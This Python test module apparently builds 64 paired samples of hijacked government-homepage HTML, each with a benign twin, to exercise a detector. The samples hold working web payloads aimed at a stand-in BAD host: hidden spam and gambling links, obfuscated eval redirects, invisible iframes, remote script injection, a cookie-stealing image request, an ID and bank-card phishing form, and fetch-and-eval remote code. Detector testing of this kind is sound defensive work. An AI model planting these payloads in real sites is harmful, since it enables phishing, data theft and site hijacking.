"""Sixty-four attacks in plain spellings of everyday hijacking, written after the judge's last mending; with twins."""

import base64
from collections.abc import Iterator
from urllib.parse import quote

from tests.pages.imitations.attacks import BAD, GOOD, Attack, home

_HOST = BAD.removeprefix("http://")
_GOODS = f"<a href='{BAD}/q1'>耐火砖</a>、<a href='{BAD}/q2'>代办注册公司</a>、<a href='{BAD}/q3'>高空作业车</a>"
_PARTNERS = f"<a href='{GOOD}/'>云山旅游</a>、<a href='https://www.mohrss.gov.cn/'>人力资源社会保障部</a>"
_TITLE = "<title>首页_云山县人民政府</title>"
_FOOT = "<a href='/about/'>关于我们</a>"


def _put(name: str, page: str, twin: str, *, plain: bool = True) -> Attack:
    return Attack(name, home(page), home(twin), plain)


def _run(name: str, script: str, twin: str, *, plain: bool = True) -> Attack:
    return _put(name, f"<script>{script}</script>", f"<script>{twin}</script>", plain=plain)


def _around(name: str, around: str, twin: str, *, plain: bool = True) -> Attack:
    return _put(name, around.replace("{}", _GOODS), twin.replace("{}", _PARTNERS), plain=plain)


def _entitled(name: str, title: str, twin: str, *, plain: bool = True) -> Attack:
    return Attack(
        name,
        home().replace(_TITLE, f"<title>{title}</title>"),
        home().replace(_TITLE, f"<title>{twin}</title>"),
        plain,
    )


def _headed(name: str, head: str, twin: str, *, plain: bool = True) -> Attack:
    return Attack(name, home(head=head), home(head=twin), plain)


def _unseen() -> Iterator[Attack]:
    for name, style, twin in (
        ("left of the left", "position:absolute;left:-1500px;top:-1500px", "position:absolute;left:15px;top:15px"),
        ("no display, spaced", " display : none ; ", " display : table ; "),
        ("overflow of nothing", "overflow:hidden;height:0px", "overflow:hidden;height:30px"),
        ("opacity in per cent", "opacity:0%", "opacity:90%"),
        ("white letters of nothing", "font-size:0pt;color:#fff", "font-size:9pt;color:#222"),
        ("indented by metres", "text-indent:-2000px;white-space:nowrap", "text-indent:20px;white-space:nowrap"),
        ("lower than low", "position:fixed;top:200vh;bottom:-900px", "position:fixed;bottom:0"),
        ("a path of nothing", "clip-path:inset(50%)", "clip-path:inset(1px)"),
    ):
        yield _around(name, f"<div style='{style}'>{{}}</div>", f"<div style='{twin}'>{{}}</div>")
    yield _around(
        "twice wrapped",
        "<div style='height:1px;overflow:hidden'><div style='margin-top:20px'>{}</div></div>",
        "<div style='height:90px;overflow:hidden'><div style='margin-top:20px'>{}</div></div>",
    )
    yield _around(
        "sheet at the end",
        "<div class='gywm'>{}</div><style>.gywm{height:0;overflow:hidden}</style>",
        "<div class='gywm'>{}</div><style>.gywm{height:3em;overflow:hidden}</style>",
    )
    yield _around(
        "every anchor",
        "<style>.lj a{display:none}</style><div class='lj'>{}</div>",
        "<style>.lj a{display:inline}</style><div class='lj'>{}</div>",
    )
    yield _around(
        "one letter of the class",
        "<style>[class*='k9x']{position:absolute;left:-99em}</style><p class='ak9xz'>{}</p>",
        "<style>[class*='k9x']{padding-left:1em}</style><p class='ak9xz'>{}</p>",
    )
    yield _around(
        "by the browser's own word",
        "<section hidden=''>{}</section>",
        "<section title=''>{}</section>",
    )
    yield _around(
        "hidden when loaded",
        "<div id='fl'>{}</div><script>window.onload=function(){document.getElementById('fl').style.displ"
        "ay='none'}</script>",
        "<div id='fl'>{}</div><script>window.onload=function(){document.getElementById('fl').style.opaci"
        "ty='1'}</script>",
    )
    yield _around(
        "hidden when ready",
        "<div class='fw'>{}</div><script>$(function(){$('.fw').hide()})</script>",
        "<div class='fw'>{}</div><script>$(function(){$('.fw').fadeIn()})</script>",
    )
    yield _run(
        "written in one line",
        f"document.writeln(\"<div style='display:none'><a href='{BAD}/w'>招标</a></div>\")",
        "document.writeln(\"<div style='display:block'><a href='/zb/'>招标</a></div>\")",
    )
    yield _around(
        "runs for ever unseen",
        "<marquee direction='up' scrolldelay='9' height='1' width='1'>{}</marquee>",
        "<marquee direction='up' scrolldelay='90' height='120' width='240'>{}</marquee>",
    )


def _led() -> Iterator[Attack]:
    yield _run("plainly", f"window.location='{BAD}/'", "window.location.hash='zw'")
    yield _run("parent", f"parent.location.href='{BAD}/pa'", "parent.document.title")
    yield _run("self, replaced", f"self.location.replace('{BAD}/se')", "self.focus()")
    yield _run("without a scheme", f"top.location.href='//{_HOST}/ns'", "top.location.hash='//'")
    yield _run(
        "by the name of a browser",
        f"if(navigator.userAgent.match(/(iPhone|iPod|Android|ios|SymbianOS)/i)){{location.replace('{BAD}/sj')}}",
        "if(navigator.userAgent.match(/(iPhone|iPod|Android|ios|SymbianOS)/i)){location.replace('/sj/')}",
    )
    yield _run(
        "by the searcher's address",
        f"var d=document.referrer;if(d.indexOf('www.baidu.com')>=0||d.indexOf('m.sm.cn')>=0)self.location"
        f".href='{BAD}/ss'",
        "var d=document.referrer;if(d.indexOf('www.yunshan.example')>=0)self.scrollTo(0,0)",
    )
    yield _run(
        "timer of a function",
        f"function tz(){{location.href='{BAD}/tz'}}setTimeout(tz,200)",
        "function gd(){list.scroll(9)}setTimeout(gd,200)",
        plain=False,
    )
    yield _run(
        "figures of eight",
        "eval('\\154\\157\\143\\141\\164\\151\\157\\156=\"" + BAD + "\"')",
        "say('\\101\\102')",
    )
    yield _run(
        "codes that are run", f"eval(unescape('{quote(f'location.href={BAD!r}', safe='')}'))", "unescape('%u4e91')"
    )
    coded = base64.b64encode(f"location.href='{BAD}/b6'".encode()).decode()
    yield _run("sixty-four that are run", f"(new Function(atob('{coded}')))()", f"console.log(atob('{coded[:8]}'))")
    yield _run(
        "cut out of a text",
        f"var s='xx{BAD}yy';location.href=s.substring(2,s.length-2)",
        "var s='xx云山yy';tip(s.substring(2,s.length-2))",
        plain=False,
    )
    yield _run(
        "exchanged letters",
        f"location.href='{BAD.replace('t', '#')}'.replace(/#/g,'t')",
        "tip('20#26'.replace(/#/g,''))",
    )
    yield _run(
        "array that is joined",
        f"var p=['{BAD[:9]}','{BAD[9:]}'];window.location.href=p.join('')",
        "var p=['云山','县'];tip(p.join(''))",
    )
    yield _run("event of a start", f"window.addEventListener('DOMContentLoaded',()=>{{location='{BAD}/dc'}})",
               "window.addEventListener('DOMContentLoaded',()=>{menu()})")  # fmt: skip
    yield _run("a new window", f"window.open('{BAD}/nw','_blank')", "function dy(){window.open('/dy/','_blank')}")
    yield _run(
        "back and away",
        f"history.pushState({{}},'');window.onpopstate=()=>{{location.href='{BAD}/ba'}}",
        "history.pushState({},'');window.onpopstate=()=>{list.back()}",
    )
    yield _put(
        "picture that is missing",
        f"<img src='/none.gif' onerror=\"top.location='{BAD}/mi'\">",
        "<img src='/none.gif' onerror=\"this.src='/blank.gif'\">",
    )
    yield _put(
        "body that is ready",
        f"<body onpageshow=\"location.href='{BAD}/ps'\">",
        '<body onpageshow="fit()">',
        plain=False,
    )
    yield _put("link of code, spaced",
               f"<a href=\" javascript:location='{BAD}/sp'\">办事</a>", '<a href=" /bs/">办事</a>',
               plain=False)  # fmt: skip


def _named() -> Iterator[Attack]:
    yield _entitled("a bookmaker's title", "亚博体育app官方下载", "云山县体育局_体育公园开放")
    yield _entitled("a title of games", "开元棋牌_官方网站", "云山县人民政府_棋牌室专项整治")
    yield _entitled("a title nobody explains", "聚彩通_首页", "政务公开_云山县人民政府", plain=False)
    yield _entitled(
        "a title in Latin", "Slot Gacor Online Resmi", "Yunshan County Government 云山县人民政府", plain=False
    )
    yield _headed(
        "keywords of loans",
        "<meta name='keywords' content='真人娱乐,电子游艺,时时彩计划'>",
        "<meta name='keywords' content='云山文旅,电子政务,时令农产品'>",
    )
    yield _headed(
        "description of papers",
        "<meta name='description' content='代开发票 刻章办证 一条龙'>",
        "<meta name='description' content='电子发票 证照办理 一件事'>",
    )
    yield _headed("refresh at once", f"<meta http-equiv=refresh content=0;url={BAD}/>",
                  "<meta http-equiv=refresh content=1200>")  # fmt: skip
    yield _headed("base of a stranger", f"<base target='_self' href='{BAD}/'>", "<base target='_blank' href='/'>")
    yield _headed("the true page elsewhere", f"<link href='{BAD}/zy' rel=canonical>", "<link href='/' rel=canonical>")
    yield _put("heading of theirs, seen", "<h3>皇冠体育投注 百家乐技巧</h3>", "<h3>体育彩票公益金公示 百家宴</h3>")
    yield _put(
        "friends of theirs, seen",
        f"<p><a href='{BAD}/t1'>真人百家乐</a> <a href='{BAD}/t2'>时时彩平台</a></p>",
        f"<p><a href='{GOOD}/t1'>真人图书馆</a> <a href='https://www.cwl.gov.cn/'>中国福彩</a></p>",
    )


def _placed() -> Iterator[Attack]:
    yield _put("frame of two noughts", f"<iframe src={BAD}/f1 width=0 height=0></iframe>",
               "<iframe src=/sp/f1 width=400 height=300></iframe>")  # fmt: skip
    yield _put("frame not displayed at all", f"<div style='display:none'><iframe src='{BAD}/f2'></iframe></div>",
               "<div style='display:flex'><iframe src='/sp/f2'></iframe></div>")  # fmt: skip
    yield _put(
        "frame over the window",
        f"<iframe src='{BAD}/f3' style='position:fixed;inset:0;width:100%;height:100%;border:0'></iframe>",
        "<iframe src='/sp/f3' style='position:static;width:100%;height:500px;border:0'></iframe>",
        plain=False,
    )
    yield _put("frame in sight again", f"<iframe src='{BAD}/f4' width='100%' height='480'></iframe>",
               "<iframe src='http://sp.yunshan.example/f4' width='100%' height='480'></iframe>",
               plain=False)  # fmt: skip
    yield _put("script at the end", f"<script type='text/javascript' src='{BAD}/tongji.js'></script>",
               "<script type='text/javascript' src='/js/tongji.js'></script>", plain=False)  # fmt: skip
    yield _run(
        "script put before the first",
        f"(function(){{var a=document.createElement('script');a.async=1;a.src='{BAD}/a.js';var b=document.scripts[0];"
        "b.parentNode.insertBefore(a,b)})()",
        "(function(){var a=document.createElement('script');a.async=1;a.src='/js/a.js';var b=document.scripts[0];"
        "b.parentNode.insertBefore(a,b)})()",
        plain=False,
    )
    yield _run(
        "script by the library",
        f"$.getScript('{BAD}/g.js',function(){{go()}})",
        "$.getScript('/js/g.js',function(){go()})",
    )
    yield _run(
        "written with a host",
        f'document.write("<scr"+"ipt src=\'{BAD}/w.js\'></scr"+"ipt>")',
        'document.write("<scr"+"ipt src=\'/js/w.js\'></scr"+"ipt>")',
        plain=False,
    )
    yield _run(
        "obfuscated as ever",
        "var _0xabc1=['\\x6c','\\x6f'];(function(_0xabc2,_0xabc3){var _0xabc4=function(_0xabc5){while(--_0xabc5){"
        "_0xabc2.push(_0xabc2.shift())}};_0xabc4(++_0xabc3)}(_0xabc1,0x1f))",
        "var abc1=['l','o'];(function(a,b){while(--b){a.push(a.shift())}})(abc1,2)",
    )
    yield _run(
        "cookies to a stranger",
        f"var i=document.createElement('img');i.src='{BAD}/ck?'+document.cookie",
        "var i=document.createElement('img');i.src='/ck?'+Math.random()",
        plain=False,
    )
    yield _put(
        "form for the identity",
        f"<form method='post' action='{BAD}/sb'>姓名<input name='n'>身份证号<input name='i'>银行卡"
        "<input name='c'></form>",
        "<form method='post' action='/sb'>姓名<input name='n'>身份证号<input name='i'>事项<input name='c'></form>",
    )
    yield _put("sheet of a stranger", f"<link rel=stylesheet href={BAD}/skin.css>",
               "<link rel=stylesheet href=/skin/mourning.css>", plain=False)  # fmt: skip
    yield Attack(
        "about us, elsewhere",
        home().replace(_FOOT, f"<a href='{BAD}/gy'>关于我们</a>"),
        home().replace(_FOOT, "<a href='/gywm.html'>关于我们</a>"),
        plain=False,
    )
    yield _around("class of bootstrap", "<ul class='list d-none'><li>{}</li></ul>", "<ul class='list'><li>{}</li></ul>",
                  plain=False)  # fmt: skip
    yield _put("client for telephones", f"<a href='{BAD}/ys.apk'>掌上云山</a>", "<a href='/app/ys.apk'>掌上云山</a>",
               plain=False)  # fmt: skip
    yield _run(
        "socket of orders",
        f"new WebSocket('wss://{_HOST}/o').onmessage=e=>eval(e.data)",
        "new WebSocket('wss://'+location.host+'/o').onmessage=e=>tip(e.data)",
    )
    yield _run(
        "text that is run",
        f"fetch('{BAD}/t.txt').then(a=>a.text()).then(b=>{{(0,eval)(b)}})",
        "fetch('/t.txt').then(a=>a.text()).then(b=>{tip(b)})",
    )


FINAL_ATTACKS = (*_unseen(), *_led(), *_named(), *_placed())
